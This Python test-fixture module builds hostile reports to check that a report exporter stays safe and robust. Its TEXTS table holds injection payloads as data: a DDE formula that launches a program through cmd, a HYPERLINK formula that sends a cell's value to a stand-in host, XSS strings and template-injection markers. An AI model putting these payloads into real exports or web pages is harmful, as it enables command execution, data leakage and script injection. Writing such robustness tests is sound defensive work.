"""Reports that must harm nobody and stop no exporter."""

from __future__ import annotations

import datetime as dt
import unicodedata
from collections.abc import Callable
from decimal import Decimal
from functools import partial

from attrs import evolve, frozen

from cadre_training.plugin import (
    Absence,
    BulletList,
    Cell,
    CheckResult,
    Column,
    Counter,
    CounterDefinition,
    CounterFigure,
    CounterSnapshot,
    CounterWindow,
    CountUnit,
    Definition,
    Definitions,
    Finding,
    Findings,
    InheritedCount,
    KeyFigure,
    KeyFigures,
    Label,
    NotKnown,
    Paragraph,
    Period,
    Phrase,
    Place,
    Quantity,
    Report,
    Robots,
    Row,
    Section,
    Severity,
    Source,
    SourceList,
    Spot,
    Table,
)

MANY_ROWS = 100_000

TEXTS = {
    "formula": "=cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula of Lotus": "@SUM(1+1)*2",
    "formula with a sign": '+HYPERLINK("http://nowhere.invalid/?"&A1)',
    "formula in a line of its own": "lớp\r\n=1+1",
    "script": "<script>alert('x')</script>",
    "end of a comment": "--></style></script><img src=x onerror=alert(1)>",
    "break out of an attribute": '" onmouseover="alert(1)" x=\'',
    "address of a script": "javascript:alert(1)",
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} {n}",
    "right-to-left override": "lớp \u202e164 mở\u202c \u2066\u2067\u200f",
    "NUL": "trước\x00sau",
    "control characters": "\x1b[31mđỏ\x1b[0m\x07\x08\x85\x9b",
    "lone surrogates": "một \ud83d hai \udead",
    "a bare non-character": "\ufffe\uffff",
    "decomposed": unicodedata.normalize("NFD", "Đối tượng kỹ năng điều hành"),
    "line separators": "một\u2028hai\u2029ba\r\nbốn\rnăm\vsáu\fbảy",
    "quotation marks": '"a",\'b\';""c""\t“d” `e` \\',
    "markup of plain text": "| a | b |\n|---|---|\n# *lớp* [x](y) \\",
    "byte-order mark": "\ufefflớp",
    "spaces only": " \u00a0\u2009 ",
    "wide and joined": "漢字 👩‍👩‍👧 e\u0301\u0302\u0303",
    "one long word": "W" * 5_000,
}
"""Texts that have broken files, pages and terminals."""


@frozen
class HostileReport:
    """A report that is hard to export.

    Args:
        name: What is hard about it.
        make: Makes the report.
    """

    name: str
    make: Callable[[], Report]


def hostile_reports() -> tuple[HostileReport, ...]:
    """Return all hostile reports; each is made when asked for, for one is large.

    Each has a table and a counter, save the empty ones.

    >>> [one.name for one in hostile_reports()][:2]
    ['formula', 'formula after a tab']
    """
    return (
        *(HostileReport(name, partial(report_of, text)) for name, text in TEXTS.items()),
        HostileReport("no section", partial(_report)),
        HostileReport("a section without blocks", _empty_section),
        HostileReport("blocks without items", _empty_blocks),
        HostileReport("a table without rows or columns", _empty_table),
        HostileReport("each kind of absence", _absences),
        HostileReport("huge numbers", _huge_numbers),
        HostileReport("the first and the last day", _far_days),
        HostileReport("many columns", _many_columns),
        HostileReport("many rows", many_rows),
    )


def report_of(text: str) -> Report:
    """Return a report in which ``text`` stands wherever a text can stand."""
    label = Label.same(text)
    phrase = Phrase.of("{t}", "{t}", t=text)
    source = Source(document=text, within=text, words=text, read_at=Place(text, sheet=text))
    number = Quantity(41, CountUnit.CLASS)
    cells = (Cell(text, (source,), code=text), Cell(number, (source,), phrase), Cell(label))
    table = Table(
        id="hostile",
        caption=phrase,
        columns=(
            Column(name=text, label=label, is_header=True),
            Column(name="n", label=label, unit=CountUnit.CLASS, definition=label),
            Column(name="m", label=label),
        ),
        rows=(Row(cells), Row(cells, is_total=True)),
        notes=(label, phrase),
    )
    finding = Finding(
        code=text,
        severity=Severity.ERROR,
        spots=(Spot(kind=text, key=text, field=text, source=source),),
        seen=phrase,
        reasons=(phrase,),
        question=phrase,
    )
    return _report(
        Paragraph(phrase),
        BulletList((label, phrase)),
        KeyFigures((KeyFigure(label=label, value=text, note=label, sources=(source,)),)),
        table,
        Findings(CheckResult(findings=(finding,))),
        Definitions((Definition(term=label, text=label),)),
        SourceList((source,)),
        Counter(_counter(text, number)),
        title=label,
    )


def many_rows(number: int = MANY_ROWS) -> Report:
    """Return a report with a table of so many rows, which share their cells."""
    columns = (
        Column(name="year", label=Label("Năm", "Year"), is_header=True),
        Column(name="unit", label=Label("Đơn vị", "Unit")),
        Column(name="classes", label=Label("Số lớp", "Classes"), unit=CountUnit.CLASS),
    )
    years = [Cell(Period.of_year(1900 + i)) for i in range(100)]
    units = [Cell(f"Xã {i}") for i in range(37)]
    counts = [Cell(Quantity(i, CountUnit.CLASS)) for i in range(991)]
    rows = [Row((years[i % 100], units[i % 37], counts[i % 991])) for i in range(number - 1)]
    rows.append(Row((years[0], Cell("hàng cuối cùng"), counts[0])))
    caption = Label("Bảng dài", "A long table")
    table = Table(id="long", caption=caption, columns=columns, rows=tuple(rows))
    return _report(table, Counter(_counter("x" * number, Quantity(number, CountUnit.VISIT))))


def _report(
    *blocks: Paragraph
    | BulletList
    | KeyFigures
    | Table
    | Findings
    | Definitions
    | SourceList
    | Counter,
    title: Label | None = None,
) -> Report:
    name = title or Label("Báo cáo", "Report")
    sections = (Section(id="all", title=name, blocks=blocks),) if blocks else ()
    return Report(title=name, sections=sections)


def _counter(text: str, value: Quantity) -> CounterSnapshot:
    return CounterSnapshot(
        id=text if text.strip() else "x",
        site=text,
        figures=(
            CounterFigure(window=CounterWindow.TODAY, value=value, definition=Label.same(text)),
            CounterFigure(
                window=CounterWindow.ALL,
                value=Absence.NO_DATA,
                definition=NotKnown(Label.same(text)),
            ),
            CounterFigure(window=CounterWindow.WEEK, value=value, definition=_parts(text, value)),
        ),
        inherited=InheritedCount(value=value, source=Source(words=text)),
        source=Source(document=text),
    )


def _parts(text: str, value: Quantity) -> CounterDefinition:
    return CounterDefinition(
        window=CounterWindow.WEEK,
        unit=value.unit,
        zone=text if text.strip() else "x",
        end=dt.datetime(2020, 1, 1, tzinfo=dt.UTC),
        robots=Robots.WITH,
        error_percent=Decimal("0.5"),
        basis=Label.same(text),
    )


def _empty_section() -> Report:
    section = Section(id="empty", title=Label("Trống", "Empty"), blocks=())
    return evolve(_report(), sections=(section,))


def _empty_blocks() -> Report:
    return _report(
        BulletList(()),
        KeyFigures(()),
        Findings(CheckResult()),
        Definitions(()),
        SourceList(()),
        Counter(CounterSnapshot(id="empty")),
    )


def _empty_table() -> Report:
    column = Column(name="a", label=Label("Cột", "Column"))
    caption = Label("Trống", "Empty")
    return _report(
        Table(id="no-rows", caption=caption, columns=(column,), rows=()),
        Table(id="nothing", caption=caption, columns=(), rows=()),
        Table(id="no-columns", caption=caption, columns=(), rows=(Row(()), Row((), is_total=True))),
    )


def _absences() -> Report:
    columns = tuple(
        Column(name=f"c{i}", label=Label(f"Cột {i}", f"Column {i}"), unit=unit)
        for i, unit in enumerate((None, CountUnit.CLASS))
    )
    rows = tuple(Row((Cell(absence), Cell(absence))) for absence in Absence)
    figures = tuple(
        CounterFigure(window=window, value=absence, definition=NotKnown(Label("?", "?")))
        for window, absence in zip(CounterWindow, Absence, strict=False)
    )
    caption = Label("Không có", "Absent")
    return _report(
        Table(id="absent", caption=caption, columns=columns, rows=rows),
        Counter(CounterSnapshot(id="absent", figures=figures)),
    )


def _huge_numbers() -> Report:
    numbers = (0, -1, 2**63, -(10**40), 10**100)
    columns = (Column(name="n", label=Label("Số", "Number"), unit=CountUnit.PERSON),)
    rows = tuple(Row((Cell(Quantity(n, CountUnit.PERSON)),)) for n in numbers)
    caption = Phrase.of("Số lớn: {n}", "Large: {n}", n=10**60)
    return _report(
        Table(id="huge", caption=caption, columns=columns, rows=rows),
        Counter(_counter("x", Quantity(10**40, CountUnit.PAGE_VIEW))),
    )


def _far_days() -> Report:
    columns = (Column(name="day", label=Label("Ngày", "Day")),)
    ends = Period(dt.date.min, dt.date.max)
    values = (dt.date.min, dt.date.max, ends, Period.of_year(1), Period.of_year(9999))
    rows = tuple(Row((Cell(value),)) for value in values)
    caption = Phrase.of("Từ {p}", "Since {p}", p=ends)
    moment = dt.datetime.max.replace(tzinfo=dt.timezone(dt.timedelta(hours=-12)))
    return _report(
        Table(id="far", caption=caption, columns=columns, rows=rows),
        Counter(evolve(_counter("x", Quantity(1, CountUnit.VISIT)), at=moment)),
    )


def _many_columns() -> Report:
    columns = tuple(
        Column(name=f"c{i}", label=Label(f"Cột số {i}", f"Column {i}")) for i in range(300)
    )
    rows = (Row(tuple(Cell(f"ô {i}") for i in range(300))),)
    caption = Label("Bảng rộng", "A wide table")
    return _report(
        Table(id="wide", caption=caption, columns=columns, rows=rows),
        Counter(_counter("x", Quantity(2, CountUnit.VISITOR))),
    )
